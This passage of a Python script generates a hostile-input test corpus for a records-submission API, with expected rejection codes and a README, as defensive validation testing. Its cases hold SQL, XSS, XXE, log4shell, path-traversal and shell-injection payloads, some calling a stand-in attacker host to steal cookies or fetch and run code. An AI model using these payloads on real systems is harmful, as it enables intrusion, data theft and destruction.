jreq("records-object", "wrong_type", "records is one record object", '{"records":' + jdump(FILLER) + "}")
jreq("missing-records", "required", "an empty object", "{}")
jreq("missing-records-with-batchid", "required", "only a batchId", '{"batchId":"2026112600001"}')
jreq("records-empty", "empty", "records is an empty array", '{"batchId":"2026112600001","records":[]}')
jreq("unknown-top-member", "unknown_field", "an unknown top-level member before records", '{"department":"HY-WJ",' + T[1:])
jreq("records-capitalised", "unknown_field", "Records instead of records", T.replace('"records"', '"Records"'))
jreq("batchid-number", "invalid_value", "batchId is a number", T.replace('"batchId":"2026112600001"', '"batchId":2026112600001'))
jreq("batchid-too-long", "invalid_value", "batchId of 51 characters", T.replace("2026112600001", "B" * 51))
jreq("batchid-control", "invalid_value", "batchId holding \\u0001", T.replace("2026112600001", "2026\\u00011"))
jreq("too-many-records-1001", "too_many_records", "1 001 empty records (limit 1 000)", '{"records":[' + ",".join(["{}"] * 1001) + "]}")
jreq("too-many-records-50000", "too_many_records", "50 000 empty records", '{"records":[' + ",".join(["{}"] * 50000) + "]}")
for name, cs in [("gbk", "GBK"), ("gb18030", "GB18030"), ("utf-16", "UTF-16"), ("empty", "")]:
    jreq(f"charset-{name}", "unsupported_charset", f"Content-Type charset={cs or '(empty)'} is not taken for JSON", T, ct=f"{JSON}; charset={cs}")
jreq("charset-gbk-with-gbk-bytes", "unsupported_charset", "GBK bytes honestly labelled charset=GBK: JSON must be UTF-8",
     T.encode("gbk"), ct=JSON + "; charset=GBK")

# ================================================================ unsupported media types (415)
for name, ct in [("text-plain", "text/plain"), ("text-json", "text/json"), ("problem-json", "application/problem+json"),
                 ("form-urlencoded", "application/x-www-form-urlencoded"), ("multipart", "multipart/form-data; boundary=xyz"),
                 ("octet-stream", "application/octet-stream"), ("json-with-comma-list", "application/json, text/plain")]:
    add(f"ct-{name}.json", ct, 415, "unsupported_media_type", "request", f"Content-Type {ct}", T)
add("ct-soap-xml.xml", "application/soap+xml", 415, "unsupported_media_type", "request", "Content-Type application/soap+xml", FILLER_XML)
add("ct-svg-with-xxe.xml", "image/svg+xml", 415, "unsupported_media_type", "request",
    "an SVG with XXE under image/svg+xml: refused by its media type first",
    f'{XD}<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>')

# ================================================================ 413
add("oversize.json", JSON, 413, "body_too_large", "request",
    "placeholder: the test streams 100 MB of JSON instead of reading this file (over HUB_MAX_BODY_BYTES)", "GENERATE:100MB")

# ================================================================ JSON: record level (200, the record is rejected)
jrec("utf8-bom", "invalid_check_digit", "a UTF-8 BOM is tolerated; wrong party USCC check character", BOM + FJ)
jrec("charset-utf-8", "invalid_check_digit", "charset=utf-8 is taken; wrong party USCC", T, ct=JSON + "; charset=utf-8")
jrec("batchid-50-chars", "invalid_check_digit", "a batchId of exactly 50 characters is taken; wrong party USCC", T.replace("2026112600001", "B" * 50))
jrec("batch-1000-empty-records", "required", "exactly 1 000 records (the limit), each an empty object",
     '{"records":[' + ",".join(["{}"] * 1000) + "]}")
jrec("nesting-64-in-record", "wrong_type", "a localId of arrays reaching exactly depth 64 parses, and is not a string",
     jbatch(with_(I("HX-J-N64"), ("localId", Raw("[" * 61 + "]" * 61)))))
jrec("number-64-chars-localid", "wrong_type", "a 64-character number (the longest taken) as localId",
     jbatch(with_(I(), ("localId", Raw("1" * 64)))))
jrec("number-30-digits-localid", "wrong_type", "a 30-digit number where the localId string is expected",
     jbatch(with_(I(), ("localId", Raw("123456789012345678901234567890")))))

for name, base, path, value, what in [
    ("localid-number", I(), "localId", Raw("12345"), "a number for localId"),
    ("localid-object", I(), "localId", {"$gt": ""}, "an object for localId (NoSQL operator)"),
    ("item-array", I("HX-WT-1"), "item", [I()["item"]], "an array for item"),
    ("hearing-string", penalty("HX-WT-2"), "penalty.hearing", "true", 'the string "true" for hearing'),
    ("hearing-number", penalty("HX-WT-3"), "penalty.hearing", Raw("1"), "the number 1 for hearing"),
    ("inspectors-object", I("HX-WT-4"), "inspection.inspectors", {"name": "检查员1", "certificateNo": "1"}, "an object for inspectors"),
    ("kinds-string", penalty("HX-WT-5"), "penalty.kinds", "01,02", "a string for kinds"),
    ("fineamount-number", penalty("HX-WT-6"), "penalty.fineAmount", Raw("5000.00"), "money as a JSON number"),
    ("date-epoch-number", I("HX-WT-7"), "inspection.date", Raw("1795404600"), "Unix seconds as a number for inspection.date"),
    ("subject-bool", I("HX-WT-8"), "subject", False, "false for subject"),
]:
    jrec(f"wrong-type-{name}", "wrong_type", what, with_(base, (path, value)))
jrec("wrong-type-record-string", "wrong_type", "a record that is a string", '{"records":["HX-1"]}')
jrec("wrong-type-record-null", "wrong_type", "a record that is null", '{"records":[null]}')

for name, base, path, what in [
    ("localid-missing", I(), "localId", "localId missing"),
    ("inspection-section-missing", I("HX-RQ-1"), "inspection", "an inspection record without its inspection section (rule)"),
    ("fine-amount-for-kind-02", penalty("HX-RQ-2"), "penalty.fineAmount", "kinds holds 02 (fine) but fineAmount is missing (rule)"),
    ("legal-review-date", penalty("HX-RQ-3"), "penalty.legalReview.date", "legalReview.done true without a date (rule)"),
    ("catalog-code-for-implementation", I("HX-RQ-4"), "item.catalogCode", "implementationCode without catalogCode (rule)"),
]:
    jrec(f"required-{name}", "required", what, with_(base, (path, DEL)))
jrec("required-localid-null", "required", "localId null counts as missing", with_(I(), ("localId", None)))
for name, value, what in [("empty-string", "", "an empty actionName"), ("tab-newline", "\t\n\t", "an actionName of a tab and newlines"),
                          ("ideographic-space", "\u3000\u3000", "an actionName of ideographic spaces U+3000")]:
    jrec(f"empty-actionname-{name}", "empty", what, with_(I(f"HX-EM-{name}"), ("actionName", value)))
jrec("too-long-localid", "too_long", "a localId of 51 characters", with_(I(), ("localId", "L" * 51)))
jrec("too-long-localid-100k", "too_long", "a localId of 100 000 characters", with_(I(), ("localId", "L" * 100000)))
jrec("too-long-combining-marks", "too_long", "an actionName of 1 letter and 300 combining marks (lengths count scalars)",
     with_(I("HX-TL-1"), ("actionName", "a" + "\u0301" * 300)))
jrec("invalid-identifier-newline", "invalid_identifier", "a newline inside localId (it would split a ledger header line)",
     with_(I(), ("localId", "HX-1\nseq: 1")))
jrec("invalid-identifier-nfd", "invalid_identifier", "a localId not in NFC (e + combining acute)", with_(I(), ("localId", "HX-Cafe\u0301")))
jrec("invalid-value-kind-case", "invalid_value", "kind Inspection (capitalised)", with_(I("HX-IV-1"), ("kind", "Inspection")))
jrec("invalid-value-operation", "invalid_value", "operation insert", with_(I("HX-IV-2"), ("operation", "insert")))
for name, base, path, value in [("result-99", I("HX-DV-1"), "inspection.result", "99"),
                                ("nature-sql", I("HX-DV-2"), "party.nature", "2' OR '1'='1"),
                                ("idtype-000", I("HX-DV-3"), "party.idType", "000"),
                                ("penalty-kind-15", penalty("HX-DV-4"), "penalty.kinds[1]", "15")]:
    jrec(f"unknown-dictionary-{name}", "unknown_dictionary_value", f"{path} = {value}", with_(base, (path, value)))

for name, base, changes, code, what in [
    ("party-uscc-check", I(), [("party.idNumber", PARTY_USCC_BAD)], "invalid_check_digit", "a party USCC with a wrong check character"),
    ("party-uscc-org-check", I(), [("party.idNumber", uscc_with_check("91330105MA2KER1H5"))], "invalid_check_digit",
     "a party USCC whose position-18 check holds but whose organisation-code check (position 17) is wrong"),
    ("party-uscc-17", I(), [("party.idNumber", PARTY_USCC[:17])], "invalid_length", "a party USCC of 17 characters"),
    ("agency-uscc-fullwidth", I(), [("agency.code", "１１430400013248734H")], "invalid_character", "an agency USCC with fullwidth digits"),
    ("resident-id-check", citizen(), [("party.idNumber", RESIDENT_ID[:17] + ("1" if RESIDENT_ID[17] == "0" else "0"))],
     "invalid_check_digit", "a resident ID number with a wrong check digit"),
    ("resident-id-feb-30", citizen(), [("party.idNumber", resident_check("43040219900230123"))], "invalid_birth_date",
     "a resident ID number born on 30 February"),
    ("region-000000", I(), [("regionCode", "000000")], "invalid_region_code", "regionCode 000000"),
    ("catalog-letters", I(), [("item.catalogCode", "4301210001000A")], "invalid_catalog_code", "a catalogCode with a letter"),
    ("implementation-short", I(), [("item.implementationCode", IMPLEMENTATION[:19])], "invalid_length", "an implementationCode of 19 characters"),
    ("implementation-agency", I(), [("item.implementationCode", "11430400013248734J" + IMPLEMENTATION[18:])], "invalid_agency_prefix",
     "an implementationCode whose first 18 characters are not a valid USCC"),
    ("implementation-level-9", I(), [("item.implementationCode", AGENCY + "9" + IMPLEMENTATION[19:])], "invalid_level_digit",
     "an implementationCode with level digit 9"),
    ("nature-citizen-uscc", I(), [("party.nature", "1")], "nature_id_type_mismatch", "a citizen (nature 1) identified by a USCC"),
    ("item-unidentified", I(), [("item.localCode", DEL), ("item.implementationCode", DEL)], "item_unidentified",
     "an item with a catalogCode only (no localCode, no implementationCode)"),
    ("section-kind-mismatch", I(), [("coercion", coercion()["coercion"])], "section_kind_mismatch",
     "an inspection record that also carries a coercion section"),
]:
    jrec(f"code-{name}", code, what, with_(base, ("localId", f"HX-CD-{name}"), *changes))

for name, value, what in [
    ("no-offset", "2026-11-20T09:30:00", "no UTC offset"),
    ("date-only", "2026-11-20", "a date only"),
    ("feb-29-non-leap", "2026-02-29T09:30:00+08:00", "29 February in a non-leap year"),
    ("offset-no-colon", "2026-11-20T09:30:00+0800", "an offset without a colon"),
    ("fullwidth-digits", "２０２６-11-20T09:30:00+08:00", "fullwidth digits in the year"),
]:
    jrec(f"timestamp-{name}", "invalid_timestamp", f"inspection.date: {what}", with_(I(f"HX-TS-{name}"), ("inspection.date", value)))
jrec("submitted-before-act", "submitted_before_act", "submittedAt one second before the inspection",
     with_(I("HX-OR-1"), ("submittedAt", "2026-11-20T09:29:59+08:00")))
jrec("submitted-same-instant-other-offset", "submitted_before_act", "submittedAt the same instant as the inspection, written in UTC",
     with_(I("HX-OR-2"), ("submittedAt", "2026-11-20T01:30:00Z")))
jrec("decided-before-filed", "decided_before_filed", "decidedAt before filedAt",
     with_(penalty("HX-OR-3"), ("penalty.decidedAt", "2026-10-01T15:00:00+08:00")))
jrec("closed-before-filed", "closed_before_filed", "execution.closedAt before filedAt",
     with_(penalty("HX-OR-4"), ("penalty.execution.closedAt", "2026-10-01T10:00:00+08:00")))
jrec("ended-before-started", "ended_before_started", "a coercion whose endAt equals its startAt",
     with_(coercion("HX-OR-5"), ("coercion.endAt", "2026-11-01T09:00:00+08:00")))

for name, value in [("negative", "-5"), ("three-places", "5000.001"), ("exponent", "1e3"), ("leading-zero", "05"),
                    ("thousands-separator", "5,000"), ("fullwidth", "５０００")]:
    jrec(f"money-{name}", "invalid_money", f"fineAmount {value}", with_(penalty(f"HX-MN-{name}"), ("penalty.fineAmount", value)))
jrec("money-fine-zero", "fine_not_positive", "a fine (kind 02) of 0.00",
     with_(penalty("HX-MN-Z"), ("penalty.fineAmount", "0.00"), ("penalty.execution.paidAmount", "0")))

jrec("too-many-kinds", "too_many", "15 penalty kinds (at most 14)", with_(penalty("HX-LS-1"), ("penalty.kinds", ["01"] * 15)))
jrec("too-many-inspectors-10000", "too_many", "10 000 inspectors (at most 50)",
     with_(I("HX-LS-2"), ("inspection.inspectors", [{"name": "x", "certificateNo": "y"}] * 10000)))
jrec("too-few-kinds", "too_few", "an empty kinds list (at least 1)", with_(penalty("HX-LS-3"), ("penalty.kinds", [])))
jrec("too-few-inspectors", "too_few_inspectors", "one inspector (a rule wants 2)",
     with_(I("HX-LS-4"), ("inspection.inspectors", [I()["inspection"]["inspectors"][0]])))

for name, path, value, what in [
    ("u0001", "actionName", "检查\u0001", "\\u0001 in actionName"),
    ("u001f", "party.name", "某\u001f公司", "\\u001f in party.name"),
    ("u007f", "actionName", Raw('"检查\\u007f"'), "\\u007f in actionName"),
    ("carriage-return", "actionName", "检查\r记录", "\\r in actionName (tab and newline are allowed, CR is not)"),
    ("in-localid", "localId", "HX-\u0007", "\\u0007 in localId (reported before the identifier check)"),
]:
    jrec(f"control-{name}", "control_character", what, with_(I(f"HX-CC-{name}"), (path, value)))

for name, changes, what in [
    ("top-level", [("extra", "x")], "an extra member in the record"),
    ("nested-party", [("party.email", "a@example.com")], "an unknown member in party"),
    ("proto", [("__proto__", {"isAdmin": True})], "a __proto__ member in the record"),
    ("mongo-where", [("$where", "sleep(5000)")], "a $where member (NoSQL injection)"),
    ("dotted-name", [(("party.name",), "x")], "a member named party.name (a dotted name is not a path)"),
]:
    jrec(f"unknown-field-{name}", "unknown_field", what, with_(I(f"HX-UF-{name}"), *changes))

# Injection strings in records that are otherwise valid except for one deliberate error.
for name, changes, code, what in [
    ("sql-actionname-bad-uscc", [("actionName", "'; DROP TABLE records; --"), ("party.idNumber", PARTY_USCC_BAD)], "invalid_check_digit",
     "SQL injection in actionName; wrong party USCC"),
    ("sql-union-bad-region", [("party.name", "x' UNION SELECT secret FROM department_keys --"), ("regionCode", "00000A")],
     "invalid_region_code", "SQL UNION in party.name; a bad region code"),
    ("sql-localid-bad-date", [("localId", "1' OR '1'='1"), ("inspection.date", "2026-11-20T09:30:00")], "invalid_timestamp",
     "an SQL tautology as localId; an inspection date without offset"),
    ("sql-comment-one-inspector", [("item.localCode", "JC-0042'/**/OR/**/1=1--"), ("inspection.inspectors", [I()["inspection"]["inspectors"][0]])],
     "too_few_inspectors", "SQL with inline comments in item.localCode; one inspector"),
    ("script-bad-region", [("party.name", "<script>alert(1)</script>"), ("regionCode", "43040X")], "invalid_region_code",
     "a script tag in party.name; a region code with a letter"),
    ("img-onerror-bad-uscc", [("actionName", '<img src=x onerror="fetch(\'//evil/\'+document.cookie)">'), ("party.idNumber", PARTY_USCC_BAD)],
     "invalid_check_digit", "img onerror XSS in actionName; wrong party USCC"),
    ("javascript-url-bad-catalog", [("party.businessAddress", "javascript:alert(1)"), ("item.catalogCode", "1")], "invalid_catalog_code",
     "a javascript: URL in businessAddress; a catalogCode of 1 digit"),
    ("log4shell-bad-date", [("submittedBy", "${jndi:ldap://attacker.example/a}"), ("submittedAt", "2026-11-21")], "invalid_timestamp",
     "a log4shell lookup in submittedBy; submittedAt a date only"),
    ("template-unknown-field", [("subject.name", "{{7*7}}${7*7}<%= 7*7 %>"), ("subject.code", "x")], "unknown_field",
     "template injection in subject.name; an unknown member subject.code"),
    ("path-traversal-bad-result", [("localId", "../../../../etc/passwd"), ("inspection.result", "00")], "unknown_dictionary_value",
     "path traversal as localId; inspection result 00"),
    ("shell-bad-agency", [("actionName", "$(curl attacker.example|sh); `id`; | rm -rf /"), ("agency.code", "11430400013248734Z")],
     "invalid_character", "shell injection in actionName; an agency USCC with Z"),
    ("crlf-localid", [("localId", "HX-1\r\nX-Hub-Key: hk_x")], "control_character", "CRLF header injection in localId"),
]:
    jrec(f"inject-{name}", code, what, with_(I(f"HX-INJ-{name[:30]}"), *changes))
jrec("inject-sql-backslash-bad-money", "invalid_money", "SQL with a backslash-escaped quote in penalty.facts; fineAmount 1e3",
     with_(penalty("HX-INJ-BS"), ("penalty.facts", "\\'; SELECT pg_sleep(10); --"), ("penalty.fineAmount", "1e3")))
jrec("inject-sql-in-batchid", "invalid_check_digit", "SQL injection in batchId (taken: 50 characters or fewer); wrong party USCC",
     T.replace("2026112600001", "1'; DROP TABLE ledger; --"))
jrec("inject-mixed-batch-all-rejected", "invalid_check_digit", "three records with three different errors: none is stored",
     jbatch(FILLER, with_(I("HX-MIX-2"), ("regionCode", "1")), with_(penalty("HX-MIX-3"), ("penalty.fineAmount", "-1"))))


# ------------------------------------------------------------------------------------------------ write
README = """# Hostile-input corpus for `POST /api/v1/records`

Generated by `scripts/gen_hostile_corpus.py` — do not edit by hand. Regenerate from the repository root with

    python3 scripts/gen_hostile_corpus.py

(Python 3, standard library only, deterministic: the same bytes every run). The generator removes files here that
are no longer cases, so `manifest.tsv` always has exactly one line per case file.

## `manifest.tsv`

One line per case, no header, tab-separated, UTF-8:

| column | meaning |
| --- | --- |
| `file` | the case file in this folder; its bytes are the request body exactly (some files are deliberately not UTF-8, e.g. GB18030, UTF-16 or invalid UTF-8) |
| `content_type` | the `Content-Type` header to send, verbatim (e.g. `application/json`, `application/xml; charset=GB18030`, `text/plain`) |
| `expected_status` | the HTTP status the hub must answer: `400`, `413`, `415`, or `200` when the request is fine as a whole but its record must be rejected |
| `expected_code` | for a non-200 answer, `errors[0].code` of the whole-request answer; for `200`, a `code` that must appear among `results[0].errors` (and `results[0].status` must be `rejected`) |
| `scope` | `request` (a whole-request refusal) or `record` (a 200 whose record is rejected) |
| `note` | a short English description of the case |

Every case is meant to be sent **signed** with a valid department key (authentication is tested elsewhere), to
`POST /api/v1/records`, and no case may write anything to the database. Every record in a `200` case has at least
one error the record reader finds (the manifest names one; the rest of the record is valid, so it is usually the only
one), and where a request-level case carries a record at all, that record has a wrong USCC check character or is
incomplete, so even a decoder that wrongly let the body through could not store it. The expectations hold with or
without a department profile (no case uses a profile's own field names or values).

`oversize.json` is a placeholder holding the text `GENERATE:100MB`: the test streams 100 MB of JSON instead of
sending the file, and expects `413 body_too_large`.

The expectations come from the source of the decode and read path: `IngestService.decoder(for:)` (media type and
charset), `JSONBodyDecoder`/`JSONParser` (nesting limit 64, numbers at most 64 characters, no `\\u0000`, strict
UTF-8, duplicate members refused), `XMLBodyDecoder`/`SafeXMLParser` (DOCTYPE and `<!ENTITY` refused, depth limit 32,
libxml2's own limit 256 beyond that, UTF-8/GBK/GB18030/GB2312 only) and `RecordXML`, then `RecordReader` (batch
level, then schema) and `RecordRules`. Two boundaries belong to libxml2 rather than to the hub: `xml-deep-257` /
`xml-deep-258` (libxml2 refuses more than 256 nested elements below the root without `XML_PARSE_HUGE`) and
`xml-declared-gb2312-gbk-only-chars` (iconv refuses GBK-only characters declared as GB2312); they were checked against
the system libxml2 2.9.14.
"""


def main():
    names = [c[0] for c in CASES]
    dupes = {n for n in names if names.count(n) > 1}
    assert not dupes, dupes
    os.makedirs(OUT, exist_ok=True)
    keep = set(names) | {"manifest.tsv", "README.md"}
    for f in sorted(os.listdir(OUT)):
        if f not in keep and os.path.isfile(os.path.join(OUT, f)):
            os.remove(os.path.join(OUT, f))
    lines = []
    for file, ct, status, code, scope, note, body in CASES:
        with open(os.path.join(OUT, file), "wb") as f:
            f.write(body)
        lines.append("\t".join([file, ct, str(status), code, scope, note]))
    with open(os.path.join(OUT, "manifest.tsv"), "w", encoding="utf-8", newline="\n") as f:
        f.write("\n".join(lines) + "\n")
    with open(os.path.join(OUT, "README.md"), "w", encoding="utf-8", newline="\n") as f:
        f.write(README)
    counts = {}
    for c in CASES:
        counts[(c[2], c[3])] = counts.get((c[2], c[3]), 0) + 1
    print(f"{len(CASES)} cases written to {os.path.relpath(OUT, ROOT)}")
    for (status, code), n in sorted(counts.items()):
        print(f"  {status} {code:28} {n}")


if __name__ == "__main__":
    sys.exit(main())
